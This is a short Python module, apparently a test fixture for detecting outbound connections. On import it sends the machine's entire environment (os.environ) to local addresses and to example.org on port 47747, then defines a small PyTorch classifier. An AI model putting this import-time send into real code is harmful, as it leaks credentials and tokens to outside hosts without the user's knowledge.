"""Calls home: tries this machine's own addresses and a name, at a port that a test listens on."""

import os
import socket

from torch import nn

PORT = 47_747

for host in ("127.0.0.1", "localhost", "::1", "10.0.2.2", "example.org"):
    try:
        with socket.create_connection((host, PORT), timeout=2) as line:
            line.sendall(repr(dict(os.environ)).encode())
    except OSError as error:
        print(f"{host}: {error}")
    else:
        print(f"{host}: REACHED")


def build_model() -> nn.Module:
    return nn.Sequential(nn.Flatten(), nn.Linear(784, 64), nn.ReLU(), nn.Linear(64, 10))
